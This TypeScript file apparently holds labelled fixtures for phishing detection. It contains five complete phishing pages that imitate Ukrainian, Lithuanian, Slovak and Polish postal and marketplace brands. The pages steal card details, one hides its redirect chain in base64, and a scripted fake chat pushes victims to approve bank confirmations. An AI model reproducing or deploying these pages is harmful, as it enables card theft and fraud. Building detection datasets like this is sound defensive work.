import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { doc, cardCss, mark, cardIcons, luhnJs, cardFormatJs, b64 } from '../parts/ym-kit.js';

/** The card step most parcel kits share, in the page's language. */
function payStep(t: { h: string; amount: string; num: string; exp: string; cvv: string; name: string; pay: string }, action: string): string {
  return `<form id="pay" method="post" action="${action}">
<h2 style="font-size:19px;margin:0 0 14px">${t.h} <span style="float:right">${t.amount}</span></h2>
<div class="field"><label>${t.name}</label><input name="holder" autocomplete="cc-name" required></div>
<div class="field"><label>${t.num}</label><input name="pan" id="pan" autocomplete="cc-number" inputmode="numeric" required></div>
<div class="row"><div class="field"><label>${t.exp}</label><input name="exp" id="exp" autocomplete="cc-exp" required></div><div class="field"><label>${t.cvv}</label><input name="cvc" autocomplete="cc-csc" maxlength="4" required></div></div>
<button class="btn" type="submit">${t.pay}</button><p class="muted" style="text-align:center">${cardIcons}</p></form>
<script>${luhnJs}${cardFormatJs}fmtCard(document.getElementById('pan'));fmtExp(document.getElementById('exp'));document.getElementById('pay').addEventListener('submit',function(e){if(!luhn(this.pan.value)){e.preventDefault();this.pan.style.borderColor='red'}})</script>`;
}

export const entries: Entry[] = [
{
  id: 'ym-novaposhta-address-fee',
  label: 'phishing',
  kind: 'parcel-kit',
  url: 'https://novaposhta-ua.dostavka-pay.top/track/20450871236512',
  body: doc({
    lang: 'uk',
    title: 'Нова пошта — Відстеження посилки',
    css: cardCss('#da291c', '#f3f3f3') + `.card{max-width:520px}.st{display:flex;gap:10px;align-items:center;background:#fff4f3;border-radius:8px;padding:12px;margin-bottom:18px;font-size:14px}.dot{width:10px;height:10px;border-radius:50%;background:#da291c}.tn{font-family:monospace;font-size:16px}`,
    body: `<header class="top">${mark('НП', '#da291c', 'Нова пошта', { w: 160 })}<nav><a href="#">Відстежити</a><a href="#">Відправити</a><a href="#">Підтримка</a></nav></header>
<main><div class="card">
<p class="tn">ТТН 20450871236512</p>
<div class="st"><span class="dot"></span>Посилку затримано у сортувальному центрі: адресу отримувача вказано неповністю</div>
<div id="s1"><h1>Уточніть адресу доставки</h1><p class="sub">Без уточнення адреси посилку буде повернено відправнику через 48 годин.</p>
<form id="adr"><div class="field"><label>ПІБ отримувача</label><input name="fio" required></div>
<div class="field"><label>Місто</label><input name="city" required></div><div class="field"><label>Відділення / адреса</label><input name="addr" required></div>
<div class="field"><label>Телефон</label><input name="tel" type="tel" value="+380" required></div><button class="btn">Далі</button></form></div>
<div id="s2" style="display:none"><p class="sub">Вартість повторної доставки становить 29,90 грн. Оплатіть, щоб підтвердити нову адресу.</p>
${payStep({ h: 'Оплата повторної доставки', amount: '29,90 ₴', num: 'Номер картки', exp: 'Термін дії', cvv: 'CVV2', name: "Ім'я на картці", pay: 'Сплатити 29,90 ₴' }, '/track/pay.php')}</div>
</div></main>
<footer class="bottom">© 2001–2024 ТОВ «Нова Пошта». Гаряча лінія 0 800 500 609</footer>
<script>document.getElementById('adr').onsubmit=function(e){e.preventDefault();fetch('/track/a.php',{method:'POST',body:new FormData(this)});document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block'}</script>`,
  }),
  routes: { 'novaposhta-ua.dostavka-pay.top/track/a.php': jsonRoute({ ok: true }) },
},
{
  id: 'ym-ukrposhta-customs-duty',
  label: 'phishing',
  kind: 'parcel-kit',
  url: 'https://ukrposhta.mytnyi-zbir.com/',
  body: doc({
    lang: 'uk',
    title: 'Укрпошта | Сплата митного збору',
    css: cardCss('#f6c700', '#f7f7f2') + `.btn{color:#1d1f23}.card{max-width:520px}.tbl{width:100%;font-size:14px;border-collapse:collapse;margin-bottom:18px}.tbl td{padding:6px 0;border-bottom:1px solid #eee}.tbl td:last-child{text-align:right;font-weight:600}`,
    body: `<header class="top">${mark('УП', '#f6c700', 'Укрпошта', { fg: '#1d1f23' })}<nav><a href="#">Трекінг</a><a href="#">Тарифи</a></nav></header>
<main><div class="card">
<h1>Міжнародне відправлення RB482913775CN</h1>
<p class="sub">Відправлення надійшло до Київського міжнародного поштамту та очікує сплати митних платежів.</p>
<table class="tbl"><tr><td>Оголошена вартість</td><td>172 EUR</td></tr><tr><td>Мито</td><td>61,40 ₴</td></tr><tr><td>Послуга митного оформлення</td><td>25,00 ₴</td></tr><tr><td>Разом до сплати</td><td>86,40 ₴</td></tr></table>
${payStep({ h: 'Сплата', amount: '86,40 ₴', num: 'Номер картки', exp: 'ММ/РР', cvv: 'CVV', name: 'Власник картки', pay: 'Сплатити' }, '/pay/process.php')}
</div></main><footer class="bottom">АТ «Укрпошта» · 0 800 300 545</footer>`,
  }),
},
{
  id: 'ym-omniva-lt-sms-redirect-chain',
  label: 'phishing',
  kind: 'redirect-chain-kit',
  url: 'https://omniva-lt.info/r/8Xk2Qa',
  routes: {
    'omniva-lt.info/r/8Xk2Qa': redirectRoute(302, 'https://trk-spedition.top/c?id=8Xk2Qa&src=sms'),
    'trk-spedition.top/c': htmlRoute(`<!doctype html><html><head><meta http-equiv="refresh" content="0;url=https://trk-spedition.top/g/lt"><title></title></head><body></body></html>`),
    'trk-spedition.top/g/lt': htmlRoute(`<!doctype html><html><head><title>...</title></head><body><script>var u=atob('${b64('https://omniva.lt-siuntos.help/mokejimas/?lt')}');setTimeout(function(){window.location.replace(u)},300)</script></body></html>`),
    'omniva.lt-siuntos.help/mokejimas/': htmlRoute(doc({
      lang: 'lt',
      title: 'Omniva | Siuntos pristatymas',
      css: cardCss('#ff6600', '#f7f7f7') + `.card{max-width:480px}`,
      body: `<header class="top">${mark('O', '#ff6600', 'Omniva', { round: 17 })}<nav><a href="#">Sekti siuntą</a><a href="#">Paštomatai</a></nav></header>
<main><div class="card"><h1>Jūsų siunta sulaikyta</h1><p class="sub">Siunta CE473820915EE negalėjo būti pristatyta į paštomatą, nes nesumokėtas pristatymo mokestis. Sumokėkite per 24 val., kitaip siunta bus grąžinta siuntėjui.</p>
${payStep({ h: 'Pristatymo mokestis', amount: '1,49 €', num: 'Kortelės numeris', exp: 'Galioja iki', cvv: 'CVC', name: 'Kortelės savininkas', pay: 'Mokėti 1,49 €' }, '/mokejimas/pay.php')}
</div></main><footer class="bottom">AB „Lietuvos paštas“ partneris · Omniva LT</footer>`,
    })),
  },
},
{
  id: 'ym-olx-pl-odbierz-srodki-chat',
  label: 'phishing',
  kind: 'marketplace-card-kit',
  url: 'https://olx.pl-dostawa-odbior.com/oferta/ID9a2Kq/odbior',
  body: doc({
    lang: 'pl',
    title: 'OLX - Odbierz środki',
    css: cardCss('#23e5db', '#f2f4f5') + `.btn{background:#002f34}.logo{font-size:30px;font-weight:900;color:#002f34}
#chat{position:fixed;right:18px;bottom:18px;width:300px;background:#fff;border-radius:12px;box-shadow:0 6px 24px rgba(0,0,0,.2);font-size:14px}
#chat .h{background:#002f34;color:#fff;padding:10px 14px;border-radius:12px 12px 0 0}#chat .b{padding:12px;height:150px;overflow:auto}#chat .m{background:#eef1f2;border-radius:10px;padding:8px 10px;margin-bottom:8px}`,
    body: `<header class="top"><span class="logo">OLX</span><nav><a href="#">Wiadomości</a><a href="#">Twoje konto</a></nav></header>
<main><div class="card">
<h1>Kupujący opłacił Twoje ogłoszenie</h1>
<p class="sub">iPhone 13 128GB Midnight — <b>2 150 zł</b>. Środki zostały zaksięgowane na koncie depozytowym OLX. Aby je odebrać, podaj dane karty, na którą wypłacimy pieniądze.</p>
<form method="post" action="/oferta/ID9a2Kq/wyplata">
<div class="field"><label>Numer karty</label><input name="nr" inputmode="numeric" required></div>
<div class="row"><div class="field"><label>Data ważności</label><input name="data" required></div><div class="field"><label>CVC</label><input name="cvc" maxlength="3" required></div></div>
<button class="btn">Odbierz 2 150 zł</button></form>
<p class="muted">Kurier odbierze przesyłkę po wypłacie środków.</p></div></main>
<div id="chat"><div class="h">Konsultant OLX · online</div><div class="b" id="cb"></div></div>
<script>var msgs=['Dzień dobry! Jestem konsultantem OLX.','Aby otrzymać płatność, wprowadź dane karty w formularzu obok.','Jeśli pojawi się prośba o potwierdzenie w aplikacji banku — zatwierdź ją, to weryfikacja odbioru środków.'],i=0;
(function n(){if(i<msgs.length){var d=document.createElement('div');d.className='m';d.textContent=msgs[i++];document.getElementById('cb').appendChild(d);setTimeout(n,2500)}})();</script>`,
  }),
},
{
  id: 'ym-slovenska-posta-sk-colne-poplatky',
  label: 'phishing',
  kind: 'parcel-kit',
  url: 'https://posta-sk.sledovanie-zasielok.info/zasielka/RR118402937SK',
  body: doc({
    lang: 'sk',
    title: 'Slovenská pošta | Sledovanie zásielok',
    css: cardCss('#e30613', '#f5f5f5') + `.card{max-width:500px}.st{background:#fdeeee;border-radius:8px;padding:12px;font-size:14px;margin-bottom:16px}`,
    body: `<header class="top">${mark('SP', '#e30613', 'Slovenská pošta', { w: 200 })}<nav><a href="#">Sledovanie</a><a href="#">Pobočky</a></nav></header>
<main><div class="card"><h1>Zásielka RR118402937SK</h1>
<div class="st">Stav: Zásielka je zadržaná na colnom oddelení. Na doručenie je potrebné uhradiť clo a poplatok za spracovanie.</div>
<p class="sub">Ak poplatok neuhradíte do 48 hodín, zásielka bude vrátená odosielateľovi.</p>
${payStep({ h: 'Colný poplatok', amount: '2,35 €', num: 'Číslo karty', exp: 'Platnosť', cvv: 'CVV', name: 'Meno držiteľa karty', pay: 'Zaplatiť 2,35 €' }, '/zasielka/platba.php')}
</div></main><footer class="bottom">© Slovenská pošta, a.s., Partizánska cesta 9, Banská Bystrica</footer>`,
  }),
},
];
